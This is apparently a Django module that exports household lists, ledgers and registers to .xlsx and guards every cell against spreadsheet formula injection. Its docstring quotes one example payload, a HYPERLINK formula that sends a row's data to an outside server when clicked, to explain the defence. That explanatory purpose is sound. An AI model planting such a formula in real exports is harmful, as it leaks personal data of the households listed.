"""Spreadsheet exports (.xlsx): the household list as filtered, plans, ledger entries, registers.

Written with openpyxl's write-only mode, row by row, so a county-size list stays small in
memory. Column headings are in the user's language; ID numbers are exported in full only
to the staff who keep the cards (the list pages mask them for everyone).

Every cell is written through :func:`safe_cell`, so text that people typed (an address, a
name, a purpose) can never become a live formula in the file a leader opens (formula or
"CSV" injection: ``=HYPERLINK("http://…?"&A1,"click")`` would send the row's neighbours to
a stranger's server at one click).
"""

import io
import re
import unicodedata
from collections.abc import Iterable

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

# What spreadsheet programs read as the start of a formula, or strip before looking for one
# (tab, carriage return, line feed). Full-width forms (＝ ＋ － ＠) and other compatibility
# forms are compared after NFKC, which folds them into these.
FORMULA_STARTS = frozenset("=+-@\t\r\n")
# Characters a sheet title may not hold (a fund named "2025/中央资金" would fail the export).
_BAD_TITLE = re.compile(r"[\\*?:/\[\]]")


def is_formula_like(text: str) -> bool:
    return bool(text) and unicodedata.normalize("NFKC", text[0])[:1] in FORMULA_STARTS


def safe_cell(sheet, value):
    """``value`` as the cell to write: text is always text, never a formula.

    Text that a spreadsheet would read as a formula (or an error code such as ``#N/A``) is
    written as a string cell — the file then holds no formula at all — and marked with the
    quote prefix, the same mark Excel stores when a person types an apostrophe before
    ``=``: the cell shows the text, stays text when edited, and reads back as exactly the
    text that was written. That is why the roster export still imports back unchanged,
    instead of carrying an apostrophe into the data. Characters that XML cannot hold
    (control characters) are dropped rather than failing the whole export. Numbers, money
    and dates keep their types.
    """
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not (is_formula_like(value) or value in ERROR_CODES):
        return value
    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_response(
    filename: str, sheets: Iterable[tuple[str, list, Iterable[list]]]
) -> HttpResponse:
    """Sheets of (title, headings, rows); headings is one row, or a list of rows."""
    book = Workbook(write_only=True)
    for title, headings, rows in sheets:
        sheet = book.create_sheet(_BAD_TITLE.sub("-", ILLEGAL_CHARACTERS_RE.sub("", title))[:31])
        for heading_row in headings if headings and isinstance(headings[0], list) else [headings]:
            sheet.append([safe_cell(sheet, v) for v in heading_row])
        for row in rows:
            sheet.append([safe_cell(sheet, v) for v in row])
    buffer = io.BytesIO()
    book.save(buffer)
    response = HttpResponse(
        buffer.getvalue(),
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
